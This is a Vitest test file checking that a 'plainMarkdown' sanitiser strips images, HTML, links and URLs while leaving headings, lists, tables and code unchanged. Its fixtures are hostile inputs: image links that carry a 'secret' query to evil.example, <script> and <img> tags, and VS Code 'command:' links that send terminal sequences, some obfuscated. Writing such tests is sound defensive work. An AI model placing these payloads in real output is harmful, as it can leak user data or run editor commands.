import { expect, test } from 'vitest';
import { plainMarkdown } from '../../../client/src/phases/plain-markdown.ts';

test.each([
  '![x](https://evil.example/?q=secret)',
  '![x][1]\n\n[1]: https://evil.example',
  '<img src="https://evil.example">',
  '<IMG\nsrc=x>',
  '[run](command:workbench.action.terminal.sendSequence?x)',
  '[run](&#99;ommand:x)',
  '[run][1]\n\n[1]: command:x',
  '[run][]\n\n[run]: command:x',
  '<command:x>',
  '```\n```\n![x](https://evil.example)',
  '<!-- --><script>x</script>',
  '\\![x](https://evil.example)',
  'https://evil.example/?q=secret',
  'FTP://evil.example',
  'see WWW.evil.example',
])('%j shows no picture, holds no HTML and leads nowhere', (text) => {
  const plain = plainMarkdown(text);
  expect(plain).not.toMatch(/!\[|\]\(|\]:|\]\[|<[a-z!/?]|:\/\/|www\./i);
});

test('headings, lists, tables and code stay as they are', () => {
  const text =
    '# A\n\n- b\n\n| a | b |\n|---|---|\n\n```sql\nselect 1 where a < 2 and b <> 3 -- s3://bucket\n```\n';
  expect(plainMarkdown(text)).toBe(text);
});
